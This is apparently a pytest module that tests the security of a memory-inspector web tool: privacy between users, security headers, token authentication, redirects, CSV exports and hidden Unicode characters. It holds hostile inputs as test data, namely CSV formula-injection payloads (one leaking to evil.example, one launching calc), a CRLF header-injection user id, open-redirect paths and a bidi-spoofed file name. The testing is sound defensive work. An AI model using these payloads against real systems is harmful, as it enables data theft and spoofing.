"""The inspector against an adversary, through the real ``memento-inspector`` command on a
loopback port and plain HTTP: what one team member sees of another's forgotten memories, of
links to private ones and of sessions; download names for any user id; the headers every
response carries; spreadsheet formulas in CSV; the token in user mode; redirects; characters
that hide or reorder text.

One store for the module (``scene``), written before any server starts and read again after
they stop: servers come and go around it (``serve``), so a test that changes nothing can
check that nothing changed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from string import ascii_letters, digits
from urllib.parse import unquote

import httpx
import pytest
from _inspector_support import ALICE, BOB, SESSION, Seeded, seed

from memento_core import Embedder, Memento, Scope

BOB_CHAT = "bob-chat-7"
BOB_NOTE = "NOTE-bob-wrote-on-a-private-link"
NOTE_ON_ALICES = "NOTE-from-a-private-memory"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTAB=1+1",
    "\r=1+1",
)
BIDI = "invoice\u202egpj.exe"
ZERO_WIDTH = "pay\u200bpal"
EXPORT_USERS = ("김민지", "张伟", "🦊 fox", 'a"b;c')


@dataclass(frozen=True)
class Scene:
    path: Path
    ids: Seeded
    bob_linked: str
    formulas: tuple[str, ...]
    bidi: str


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Scene:
    path = tmp_path_factory.mktemp("inspector-security") / "store"
    with Memento.open(path, embedder=embedder) as mem:
        ids = seed(mem)
        mem.forget(ids.bob_team, scope=BOB)  # bob's team memory, forgotten by bob
        mem.forget(ids.peanuts, scope=ALICE)  # alice's own, forgotten: hers to restore
        bob_linked = mem.remember(
            "Bob's team checklist for the Apollo launch.", scope=BOB, privacy="team"
        )
        mem.link(bob_linked, "derived_from", ids.party, note=BOB_NOTE, scope=BOB)
        mem.link(ids.party, "contradicts", ids.database, note=NOTE_ON_ALICES, scope=BOB)
        formulas = tuple(mem.remember(text, scope=ALICE) for text in FORMULAS)
        bidi = mem.remember(f"{BIDI} from {ZERO_WIDTH}", scope=ALICE, tags=["x\u200by"])
        chat = mem.chat(BOB_CHAT, scope=BOB)
        chat.append({"role": "user", "content": "Bob's secret chat message."})
        for user in EXPORT_USERS:
            mem.remember(f"A note of {user}.", scope=Scope(user_id=user))
    return Scene(path, ids, bob_linked, formulas, bidi)


def snapshot(path: Path) -> list[str]:
    with Memento.open(path, read_only=True) as mem:
        return list(mem.export("ndjson"))


# ------------------------------------------------------------- the real command


def command() -> list[str]:
    """The installed console script, else the module (same entry point)."""
    script = Path(sys.executable).with_name("memento-inspector")
    return [str(script)] if script.exists() else [sys.executable, "-m", "memento_inspector"]


@dataclass
class Served:
    base: str
    token: str | None
    line: str
    errors: Path
    http: httpx.Client

    def get(self, path: str, **options: object) -> httpx.Response:
        return self.http.get(self.base + path, **options)  # type: ignore[arg-type]

    def post(self, path: str, **options: object) -> httpx.Response:
        return self.http.post(self.base + path, **options)  # type: ignore[arg-type]

    def csrf(self) -> str:
        found = re.search(r'name="csrf" value="([^"]+)"', self.get("/hotwords").text)
        assert found, "no CSRF token on the hotword page"
        return found.group(1)


@contextmanager
def serve(path: Path, *options: str, log: Path) -> Iterator[Served]:
    """``memento-inspector --path PATH OPTIONS --port 0``, until the block ends. Its client
    sends the printed token as a header (one test takes the cookie path instead)."""
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONIOENCODING": "utf-8"}
    with open(log, "w", encoding="utf-8") as errors:
        server = subprocess.Popen(
            [*command(), "--path", str(path), "--port", "0", *options],
            stdout=subprocess.PIPE,
            stderr=errors,
            text=True,
            encoding="utf-8",
            env=env,
        )
    try:
        assert server.stdout is not None
        line = server.stdout.readline()  # once the port is bound
        assert "Memento Inspector on" in line, (line, log.read_text(encoding="utf-8"))
        address = line.split()[-1]
        base, _, token = address.rstrip("/").partition("/?token=")
        headers = {"x-memento-token": token} if token else {}
        with httpx.Client(headers=headers, follow_redirects=False, timeout=120) as client:
            yield Served(base, token or None, line, log, client)
    finally:
        server.terminate()
        server.wait(timeout=60)


@pytest.fixture(scope="module")
def alice(scene: Scene, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    log = tmp_path_factory.mktemp("alice") / "stderr.txt"
    with serve(scene.path, "--user", "alice", "--project", "apollo", log=log) as served:
        yield served


def same_page(one: httpx.Response, other: httpx.Response, one_id: str, other_id: str) -> bool:
    return one.text.replace(one_id, "ID") == other.text.replace(other_id, "ID")


# --------------------------------------------------- forgotten memories of others


def test_a_team_memory_its_owner_forgot_is_not_shown_to_the_team(
    scene: Scene, alice: Served, tmp_path: Path
) -> None:
    ids = scene.ids
    before = snapshot(scene.path)
    for query in ("state=forgotten", "state=all", "state=all&privacy=team",
                  "state=forgotten&user=bob", "state=all&order=importance"):  # fmt: skip
        page = alice.get(f"/memories?{query}")
        assert page.status_code == 200 and ids.bob_team not in page.text, query
        assert "Bob runs the Apollo deploys" not in page.text, query
    assert ids.peanuts in alice.get("/memories?state=forgotten").text  # her own: shown
    hidden = alice.get(f"/memory/{ids.bob_team}")
    unknown = alice.get("/memory/no-such-memory")
    assert hidden.status_code == unknown.status_code == 404
    assert same_page(hidden, unknown, ids.bob_team, "no-such-memory")
    # The change forms answer as for an unknown id too, without the memory's text.
    csrf = alice.csrf()
    for action in ("restore", "forget", "edit"):
        asked = alice.post(f"/memory/{ids.bob_team}/{action}", data={"csrf": csrf})
        assert asked.status_code == 404 and "deploys" not in asked.text, action
    # The overview counts what the lists show: alice's one forgotten memory, not bob's.
    overview = alice.get("/").text
    assert "<b>1</b> forgotten" in overview
    assert 'id="total">1 memories' in alice.get("/memories?state=forgotten").text
    assert snapshot(scene.path) == before

    # Who may restore it still sees it: bob, and the store's owner.
    with serve(scene.path, "--user", "bob", "--project", "apollo", "--read-only",
               log=tmp_path / "bob.txt") as bob:  # fmt: skip
        assert ids.bob_team in bob.get("/memories?state=forgotten").text
        assert "Forgotten on" in bob.get(f"/memory/{ids.bob_team}").text
    with serve(scene.path, "--read-only", log=tmp_path / "owner.txt") as owner:
        assert ids.bob_team in owner.get("/memories?state=forgotten").text
        assert "<b>2</b> forgotten" in owner.get("/").text


def test_links_show_nothing_of_a_memory_the_viewer_cannot_see(
    scene: Scene, alice: Served, tmp_path: Path
) -> None:
    ids = scene.ids
    hidden = (ids.party, ids.party[:8], BOB_NOTE, NOTE_ON_ALICES, "surprise party", "not visible")
    # Bob's team memory, linked by bob to his private one with a note.
    page = alice.get(f"/memory/{scene.bob_linked}")
    assert page.status_code == 200 and "Apollo launch" in page.text
    assert not [word for word in hidden if word in page.text]
    assert "No links." in page.text  # the hidden end is left out, not shown as unknown
    # Alice's own memory, linked to from bob's private one.
    own = alice.get(f"/memory/{ids.database}")
    assert own.status_code == 200 and not [word for word in hidden if word in own.text]
    # The link alice may see stays: her peanuts memory derives from her coffee one.
    assert f'href="/memory/{ids.peanuts}"' in alice.get(f"/memory/{ids.coffee}").text
    with serve(scene.path, "--user", "bob", "--project", "apollo", "--read-only",
               log=tmp_path / "bob.txt") as bob:  # fmt: skip
        theirs = bob.get(f"/memory/{scene.bob_linked}").text
        assert ids.party in theirs and BOB_NOTE in theirs  # bob sees his own link


# ------------------------------------------------------------------- sessions


def test_another_users_session_answers_as_an_unknown_one(alice: Served) -> None:
    theirs = alice.get(f"/session?id={BOB_CHAT}")
    unknown = alice.get("/session?id=bob-chat-8")
    assert theirs.status_code == unknown.status_code == 200
    assert same_page(theirs, unknown, BOB_CHAT, "bob-chat-8")
    assert "secret chat" not in theirs.text and "another user" not in theirs.text
    assert "Lisbon" in alice.get(f"/session?id={SESSION}").text  # her own still opens


# -------------------------------------------------------------------- exports


@pytest.mark.parametrize("user", EXPORT_USERS)
def test_exports_of_users_outside_latin_1_are_named_per_rfc_6266(
    scene: Scene, tmp_path: Path, user: str
) -> None:
    with serve(scene.path, "--user", user, "--read-only", log=tmp_path / "log.txt") as one:
        for fmt, suffix in (("csv", "csv"), ("ndjson", "ndjson"), ("markdown", "md")):
            response = one.get(f"/export?fmt={fmt}")
            assert response.status_code == 200, (fmt, response.text[:300])
            header = response.headers["content-disposition"]
            # RFC 6266: an ASCII filename, then filename* in UTF-8 (RFC 8187), which wins.
            parts = re.fullmatch(
                r"attachment; filename=\"([ -~]*)\"; filename\*=UTF-8''(\S+)", header
            )
            assert parts, header
            assert not set(parts.group(1)) & set('"\\;') and parts.group(1).endswith(suffix)
            named = unquote(parts.group(2), encoding="utf-8", errors="strict")
            assert named == f"memento-{user}.{suffix}"
            assert not set(parts.group(2)) - set(ascii_letters + digits + "%-._~!#$&+^`|")
            if fmt == "ndjson":
                contents = [json.loads(line)["content"] for line in response.text.splitlines()]
            else:
                contents = _cells(response.text) if fmt == "csv" else [response.text]
            assert any(f"A note of {user}." in text for text in contents), fmt


def test_a_user_id_with_a_line_break_is_refused_at_start(scene: Scene) -> None:
    before = snapshot(scene.path)
    result = subprocess.run(
        [
            *command(),
            "--path",
            str(scene.path),
            "--user",
            "eve\r\nSet-Cookie: x=1",
            "--port",
            "0",
            "--read-only",
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
        timeout=120,
    )
    assert result.returncode == 2 and "control character" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert snapshot(scene.path) == before


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_cells_that_start_a_formula_are_made_inert(
    scene: Scene, alice: Served, tmp_path: Path
) -> None:
    with serve(scene.path, "--read-only", log=tmp_path / "owner.txt") as owner:
        exports = {"alice": alice.get("/export?fmt=csv").text,
                   "owner": owner.get("/export?fmt=csv").text}  # fmt: skip
    for who, text in exports.items():
        cells = _cells(text)
        for formula in FORMULAS:
            assert "'" + formula in cells, (who, formula)
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert live == [], (who, live)
    # Nothing else changed: the same rows as the ndjson export.
    assert len(list(csv.reader(io.StringIO(exports["alice"], newline="")))) == 1 + len(
        alice.get("/export?fmt=ndjson").text.splitlines()
    )


# -------------------------------------------------------------------- headers


def test_every_response_carries_the_security_headers(
    scene: Scene, alice: Served, tmp_path: Path
) -> None:
    ids = scene.ids
    token = alice.token
    responses = {
        "overview": alice.get("/"),
        "browse": alice.get("/memories?state=all"),
        "search": alice.get("/search?q=coffee"),
        "memory": alice.get(f"/memory/{ids.coffee}"),
        "unknown memory": alice.get("/memory/nothing"),
        "hotwords": alice.get("/hotwords"),
        "session": alice.get(f"/session?id={SESSION}"),
        "users": alice.get("/users"),
        "export page": alice.get("/export"),
        "export": alice.get("/export?fmt=csv"),
        "bad export": alice.get("/export?fmt=xml"),
        "script": alice.get("/static/inspector.js"),
        "style": alice.get("/static/inspector.css"),
        "no page": alice.get("/nowhere"),
        "no csrf": alice.post(f"/memory/{ids.coffee}/forget", data={"confirm": "yes"}),
        "a question": alice.post(f"/memory/{ids.coffee}/forget", data={"csrf": alice.csrf()}),
        "method": alice.http.delete(f"{alice.base}/memories"),
        "no token": httpx.get(f"{alice.base}/", timeout=60),
        "token exchange": httpx.get(f"{alice.base}/?token={token}", timeout=60),
        "foreign host": alice.get("/", headers={"host": "evil.example"}),
    }
    for name, response in responses.items():
        headers = response.headers
        policy = headers.get("content-security-policy", "")
        assert headers.get("x-frame-options") == "DENY", name
        assert "frame-ancestors 'none'" in policy, name
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy, name
        assert headers.get("x-content-type-options") == "nosniff", name
    assert responses["no token"].status_code == 401
    assert responses["foreign host"].status_code == 400
    assert responses["token exchange"].status_code == 303
    # No page holds an inline script or style, or a javascript: address, that the CSP would stop.
    for name in ("overview", "browse", "search", "memory", "hotwords", "a question", "no page"):
        text = responses[name].text
        assert "<script>" not in text and "style=" not in text and "javascript:" not in text


# ---------------------------------------------------------------------- token


def test_user_mode_prints_a_token_every_request_needs(scene: Scene, alice: Served) -> None:
    assert "as user 'alice'" in alice.line and "?token=" in alice.line
    before = snapshot(scene.path)
    stranger = httpx.Client(follow_redirects=False, timeout=60)
    csrf = alice.csrf()
    for method, path in [("GET", "/"), ("GET", "/memories"), ("GET", "/export?fmt=ndjson"),
                         ("GET", f"/memory/{scene.ids.coffee}"), ("POST", "/users/erase"),
                         ("POST", f"/memory/{scene.ids.coffee}/forget")]:  # fmt: skip
        refused = stranger.request(
            method, alice.base + path, data={"csrf": csrf, "user": "alice", "confirm": "yes"}
        )
        assert refused.status_code == 401, path
        assert "alice" not in refused.text and "Alice" not in refused.text, path
    # The printed address: the token once, then a cookie.
    moved = stranger.get(f"{alice.base}/memories?token={alice.token}&state=all")
    assert moved.status_code == 303 and moved.headers["location"] == "/memories?state=all"
    assert stranger.get(alice.base + "/memories?state=all").status_code == 200
    assert snapshot(scene.path) == before


def test_no_token_must_be_asked_for_and_warns(scene: Scene, tmp_path: Path) -> None:
    log = tmp_path / "stderr.txt"
    with serve(scene.path, "--user", "alice", "--project", "apollo", "--no-token",
               "--read-only", log=log) as open_one:  # fmt: skip
        assert open_one.token is None and "?token=" not in open_one.line
        assert httpx.get(open_one.base + "/", timeout=60).status_code == 200
    warning = log.read_text(encoding="utf-8")
    assert "warning" in warning and "--no-token" in warning and "'alice'" in warning
    owner = subprocess.run(
        [*command(), "--path", str(scene.path), "--no-token", "--port", "0"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert owner.returncode == 2 and "--no-token needs --user" in owner.stderr


# ------------------------------------------------------------------ redirects


def test_redirects_stay_on_the_inspector(scene: Scene, alice: Served, tmp_path: Path) -> None:
    with serve(scene.path, "--read-only", log=tmp_path / "owner.txt") as owner:
        for served in (alice, owner):
            stranger = httpx.Client(follow_redirects=False, timeout=60)
            for path in ("//evil.example/", "/\\evil.example/", "//evil.example//x",
                         "/%2Fevil.example/", "/%5Cevil.example/"):  # fmt: skip
                moved = stranger.get(f"{served.base}{path}?token={served.token}")
                assert moved.status_code == 303, path
                location = moved.headers["location"]
                target = httpx.URL(served.base + "/").join(location)
                here = httpx.URL(served.base)
                assert (target.host, target.port) == (here.host, here.port), (path, location)
                assert location.startswith("/") and location[1:2] not in ("/", "\\"), location


# ------------------------------------------------------ characters that hide text


def test_bidi_and_zero_width_characters_are_shown(scene: Scene, alice: Served) -> None:
    assert "\u202e" in alice.get("/export?fmt=ndjson").text  # in the store as it was written
    for path in ("/memories", f"/memory/{scene.bidi}", "/search?q=invoice"):
        # Form fields keep the text as it is (an edit must not change it): left out here.
        page = re.sub(
            r"<textarea.*?</textarea>|value=\"[^\"]*\"", "", alice.get(path).text, flags=re.S
        )
        assert scene.bidi in page, path
        assert "\u202e" not in page and "\u200b" not in page, path
        assert "[U+202E]" in page and "[U+200B]" in page, path
    page = alice.get(f"/memory/{scene.bidi}").text
    # The edit form keeps the text as it is: saving it unchanged changes nothing.
    assert f">{BIDI} from {ZERO_WIDTH}</textarea>" in page
    assert 'value="x\u200by"' in page
